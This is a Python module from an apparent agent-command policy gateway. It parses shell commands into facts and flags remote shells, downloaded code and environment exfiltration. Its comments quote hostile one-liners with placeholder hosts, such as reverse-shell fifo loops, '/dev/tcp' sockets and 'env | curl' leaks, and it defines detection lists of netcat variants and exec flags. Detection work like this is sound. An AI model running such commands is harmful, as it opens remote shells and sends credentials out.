"""Shell commands as simple commands, parsed with tree-sitter-bash, for rules to reason over.

What a rule gets for each simple command (see ``Command.as_fact``): the argv after quote and
escape removal (ANSI-C ``$'..'`` included), brace expansion and static variable substitution; the
program name resolved through paths and wrappers (``env``, ``sudo -u x``, ``nice``, ``exec``,
``command``, ``busybox``, ``xargs``, ...); ``bash -c`` / ``eval`` / heredoc / ``echo ... | sh``
payloads parsed recursively, up to :data:`MAX_DEPTH`; options as the program reads them
(:mod:`options`); redirections; which programs feed its stdin and read its stdout (pipelines,
``|&``, subshells, groups, process substitution); the programs whose output it runs as code; the
effective cwd after ``cd``; and ``dynamic`` when something stays unknown until run time.
Oversized, unparseable or too deeply nested input is reported, not guessed at."""

from __future__ import annotations

import re
from collections import OrderedDict
from typing import Any

import orjson

from gateway.policy.facts import effects as effectmod
from gateway.policy.facts import hosts as hostmod
from gateway.policy.facts import paths as pathmod
from gateway.policy.facts.shell.command import SHELLS, Command, State, is_interpreter, unique
from gateway.policy.facts.shell.walker import MAX_BYTES, Walker

__all__ = ["CACHE_ENTRIES", "CACHE_MAX_TEXT", "MAX_BYTES", "parse_command"]

CACHE_ENTRIES = 256
CACHE_MAX_TEXT = 2048
CACHE_MAX_FACTS = 16384
"""The parse cache holds at most 256 results of commands up to 2 KiB whose facts encode to at
most 16 KiB (about 4.6 MB at worst): agents repeat the same commands (``git status``, the test
command), and a flood of unique ones only evicts."""
_cache: OrderedDict[tuple[str, str, str], bytes] = OrderedDict()


def parse_command(text: str, cwd: str, home: str) -> tuple[list[dict[str, Any]], list[str]]:
    """Facts of every simple command in ``text`` and the reasons it could not be read fully.

    A pure function of its three inputs, so repeated commands are answered from a bounded LRU
    cache of their JSON encoding; each call gets its own objects (decoded from the cache, or the
    fresh ones, which hold only JSON types: lists, never tuples), never a shared object."""
    key = (text, cwd, home)
    cached = _cache.get(key)
    if cached is not None:
        _cache.move_to_end(key)
        facts, reasons = orjson.loads(cached)
        return facts, reasons
    facts, reasons = _parse(text, cwd, home)
    if len(text) <= CACHE_MAX_TEXT:
        encoded = orjson.dumps((facts, reasons))  # before the caller can change them
        if len(encoded) <= CACHE_MAX_FACTS:
            _cache[key] = encoded
            if len(_cache) > CACHE_ENTRIES:
                _cache.popitem(last=False)
    return facts, reasons


def _parse(text: str, cwd: str, home: str) -> tuple[list[dict[str, Any]], list[str]]:
    walker = Walker(home)
    state = State(cwd=cwd, home=home, vars={})
    try:
        walker.parse(text, state, 0, "")
        walker.uncalled(state)
    except RecursionError:
        walker.unparsed.append("too-deep")
    except ValueError:
        walker.unparsed.append("syntax")
    for cmd in walker.commands:
        lost = cwd != "" and cmd.state.cwd == ""
        found = effectmod.of_command(
            cmd.fact, cmd.words[cmd.start + 1 :], cmd.state.cwd, cmd.state.home, lost, cmd.parsed
        )
        cmd.fact["effects"] = effectmod.with_persist(found + cmd.code_effects)
    _link_effects(walker.commands)
    facts = []
    for cmd in walker.commands:  # each its own dict, done with: its working keys dropped in place
        fact = cmd.fact
        fact.pop("_inputs", None)
        fact.pop("_values", None)
        fact.pop("_stdin_parsed", None)
        fact.pop("_script_parsed", None)
        fact.pop("paths_raw", None)
        facts.append(fact)
    return facts, unique(walker.unparsed)


ENVIRONMENT_PRINTERS = frozenset({"env", "printenv", "set", "export", "declare", "typeset"})
"""Programs that print the environment (its tokens and keys among it) when given no operands."""
_SENDS = frozenset({"send", "tunnel"})
_SOCKET_EXEC = re.compile(r"^(exec|system):", re.I)
_NC_EXEC = frozenset({"-e", "-c", "--exec", "--sh-exec", "--lua-exec"})
_NETCATS = frozenset({"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"})


def _link_effects(commands: list[Command]) -> None:
    """Effects that only the command line as a whole shows: code run from a program that read the
    network is downloaded (``cat < /dev/tcp/h/80 | sh``), a shell or interpreter whose input or
    output is a socket, or that ``socat``/``nc`` attach to one, is a remote shell, and the
    environment printed into a program that sends is a credential leaving."""
    printers = []
    listers = False
    sockets = False
    for c in commands:
        fact = c.fact
        name = fact["program"]
        if name in ENVIRONMENT_PRINTERS and _prints_environment(fact):
            printers.append(c)
        if c.state.vars or c.env:  # `HTTPS_PROXY=http://169.254.169.254 curl …`: the proxy is reached too
            for key, value in [*c.state.vars.items(), *c.env.items()]:
                if key.lower().endswith("_proxy") and not value.dynamic:
                    hosts = hostmod.of_argument(value.text)
                    fact["effects"] += [
                        effectmod.effect("network", name, fact["wrappers"], host=h, direction="fetch") for h in hosts
                    ]
        listers = listers or name in _LISTERS
        if not sockets and (name == "ztcp" or fact["redirects"]):
            sockets = _opens_socket(c)
    printing = {c.fact["program"] for c in printers}
    dumps = {e["path"] for c in printers for e in c.fact["effects"] if e["kind"] == "write"}
    for c in printers:  # `env`, `export -p` with nothing between them and the agent: every token shown
        if not c.fact["stdout_to"] and not any(e["kind"] in ("write", "credential") for e in c.fact["effects"]):
            via = [*c.fact["wrappers"], *([c.fact["context"]] if c.fact["context"] else [])]
            c.fact["effects"].append(effectmod.effect("credential", c.fact["program"], via))
    if sockets:
        _socket_descriptors(commands)
    if listers:
        _fed_file_lists(commands)
    fetching: set[str] = set()
    senders: set[str] = set()
    for c in commands:
        name = c.fact["program"]
        for e in c.fact["effects"]:
            if e["kind"] == "network" and name:
                fetching.add(name)
                if e["direction"] in _SENDS:
                    senders.add(name)
    for cmd in commands:
        fact = cmd.fact
        found: list[dict[str, Any]] = fact["effects"]
        if fetching and set(cmd.code_from) & fetching:
            for e in found:
                if e["kind"] == "exec" and e["source"] != "download":
                    e["source"] = "download"
        program = cmd.program
        args = fact["args"]
        attached = (program == "socat" and any(_SOCKET_EXEC.match(a) for a in args)) or (
            program in _NETCATS and any(a in _NC_EXEC for a in args)
        )
        # a shell reading its commands from stdin whose output goes to a socket program (the
        # `mkfifo f; cat f | sh -i | nc h p > f` loop), or a command only known at run time
        # whose input or output is a socket (`while read l; do $l >&5; done`): a remote shell
        stdin_shell = program in SHELLS and not fact["operands"] and "-c" not in fact["options"]
        if (
            ((is_interpreter(program) or (program == "" and fact["dynamic"])) and _socket(found))
            or attached
            or (stdin_shell and set(fact["stdout_to"]) & senders)
        ):
            found.append(effectmod.effect("exec", program, _via(fact), source="network", certainty="unknown"))
        # (without a program that prints the environment there is nothing for the next test to find)
        if (
            printing
            and _sends(found)
            and (
                set(cmd.stdin_from + fact.get("_inputs", [])) & printing
                or any(e["kind"] == "read" and e["path"] in dumps for e in found)
            )
        ):
            # `env | curl -d @- https://x`, `curl -d "$(env)" https://x`, `env > f; curl -d @f
            # https://x`: the environment leaves
            found.append(effectmod.effect("credential", "env", _via(fact), certainty="unknown"))


def _via(fact: dict[str, Any]) -> list[str]:
    """The wrappers and context a command runs through, as its effects name them."""
    return [*fact["wrappers"], *([fact["context"]] if fact["context"] else [])]


def _socket(found: list[dict[str, Any]]) -> bool:
    """One of the effects reads from or writes to a socket (``/dev/tcp/...``)."""
    return any(e["kind"] == "network" and e["path"].startswith("/dev/") for e in found)


def _sends(found: list[dict[str, Any]]) -> bool:
    """One of the effects sends to or tunnels through the network."""
    return any(e["kind"] == "network" and e["direction"] in _SENDS for e in found)


_ENV_OPTIONS = {"export": {"-p"}, "declare": {"-x", "-p"}, "typeset": {"-x", "-p"}}


def _prints_environment(fact: dict[str, Any]) -> bool:
    """``env``, ``printenv``, ``set``, ``export -p``, ``declare -x``: the whole environment."""
    if fact["operands"]:
        return False
    allowed = _ENV_OPTIONS.get(fact["program"])
    if allowed is None or not fact["args"]:  # `set -e` sets options; a bare `export` prints
        return fact["program"] != "set" or not fact["args"]
    return bool(fact["options"]) and set(fact["options"]) <= allowed


_SOCKET_PATHS = ("/dev/tcp/", "/dev/udp/")


def _opens_socket(cmd: Command) -> bool:
    """``cmd`` opens a socket a later redirection may use (:func:`_socket_descriptors`): only
    then is the line scanned for them."""
    return cmd.program == "ztcp" or any((r.get("path") or "").startswith(_SOCKET_PATHS) for r in cmd.fact["redirects"])


def _socket_descriptors(commands: list[Command]) -> None:
    """``exec 5<>/dev/tcp/h/p`` opens a socket on descriptor 5 for the rest of the line: a later
    ``<&5`` or ``>&5`` reads from or writes to the network."""
    sockets: dict[str, dict[str, Any]] = {}
    for cmd in commands:
        if cmd.program == "ztcp" and cmd.fact["operands"]:  # zsh/net/tcp: the socket's descriptor is $REPLY
            host = cmd.fact["operands"][0]
            sockets["$REPLY"] = effectmod.effect("network", "ztcp", [], host=host, direction="tunnel", path="/dev/tcp/")
        for r in cmd.fact["redirects"]:
            path = r.get("path") or ""
            if path.startswith(_SOCKET_PATHS) and r["fd"].isdigit():
                opened = next((e for e in cmd.fact["effects"] if e["kind"] == "network" and e["path"] == path), None)
                if opened is not None:
                    sockets[r["fd"]] = opened
            elif r["op"] in ("<&", ">&", "&>", ">") and r["target"] in sockets:
                e = sockets[r["target"]]
                direction = "fetch" if r["op"] == "<&" else "send"
                cmd.fact["effects"].append(e | {"program": cmd.program, "direction": direction, "via": []})


_LISTERS = frozenset({"find", "fd", "fdfind", "ls", "locate"})
_FIND_NAMES = frozenset({"-name", "-iname", "-path", "-ipath", "-wholename"})


def _fed_file_lists(commands: list[Command]) -> None:
    """What ``xargs CMD`` does to the files a listing feeds it, and ``find -exec CMD {}`` to the
    files it finds, in the kinds CMD's table row gives: ``find ROOT | xargs cat`` reads the tree
    ROOT; ``find ROOT -name N`` only files so named (``ROOT/N``; for a pattern, the sensitive
    names it can reach, as for a glob); ``ls GLOB | xargs cat`` reads what the glob reaches."""
    listers = [c for c in commands if c.fact["program"] in _LISTERS]
    for k, cmd in enumerate(commands):
        fact = cmd.fact
        if "xargs" in fact["wrappers"]:
            feeders = [c for c in listers if c.program in fact["stdin_from"]]
        elif fact["context"] == "find-exec":
            feeders = [c for c in commands[k + 1 :] if c.program == "find"][:1]
        else:
            continue
        row = effectmod.row_of(fact) if feeders else None
        if row is None:
            continue
        kinds = [kind for kind in ("read", "write", "delete") if getattr(row.spec, kind) not in (None, "none")]
        via = [*fact["wrappers"], *([fact["context"]] if fact["context"] else [])]
        found: list[dict[str, Any]] = fact["effects"]
        for feeder in feeders:
            listed = _listed(feeder)
            if fact["context"] == "find-exec":
                if not _names(feeder):
                    continue  # `find ROOT -exec cat {} +`: the bounded read of ROOT is already there (`{}`)
                # `find ROOT -name '*.pub' -exec cat {} +` reads only the files so named
                tops = set(_roots(feeder))
                found[:] = [
                    e for e in found if not (e["kind"] == "read" and e["path"] in tops and "find-exec" in e["via"])
                ]
            roots = {p for p, _ in listed} if feeder.program == "find" and not _names(feeder) else set()
            for path, certainty in listed:
                for kind in kinds:
                    recursive = certainty == "bounded" or path in roots
                    e = effectmod.effect(kind, cmd.program, via, path=path, recursive=recursive, certainty=certainty)
                    if e not in found:
                        found.append(e)


def _find_args(find: Command) -> list[str]:
    return [w.text for w in find.words[find.start + 1 :]]


def _roots(find: Command) -> list[str]:
    """The directories ``find`` searches (its words before the first test)."""
    roots = []
    for a in _find_args(find):
        if a.startswith(("-", "(", "!")):
            break
        roots.append(pathmod.normalize(a, find.state.cwd, find.state.home, shell=True))
    return roots or [find.state.cwd]


def _names(find: Command) -> list[str]:
    """The name patterns of ``find`` (none when one is negated: then it lists every other file)."""
    args = _find_args(find)
    if "!" in args or "-not" in args:
        return []
    return [args[i + 1] for i, a in enumerate(args[:-1]) if a in _FIND_NAMES]


def _listed(cmd: Command) -> list[tuple[str, str]]:
    """The paths a listing command prints, as (path, certainty)."""
    fact = cmd.fact
    if cmd.program != "find":  # `ls ~/.ssh/id_*`: its paths (the names a glob can reach too)
        return [(p, "bounded" if p in fact["globs"] else "exact") for p in fact["paths"]]
    roots = _roots(cmd)
    names = _names(cmd)
    if not names:  # the whole tree
        return [(r, "exact") for r in roots]
    out = []
    for r in roots:  # only files so named: ROOT/NAME (a pattern: the sensitive names it can reach)
        for name in names:
            base = r.rstrip("/") + "/" + name.rsplit("/", 1)[-1]
            if any(ch in base for ch in "*?["):
                out += [(p, "exact") for p in pathmod.glob_candidates(base, [])]
            else:
                out.append((base, "exact"))
    return out
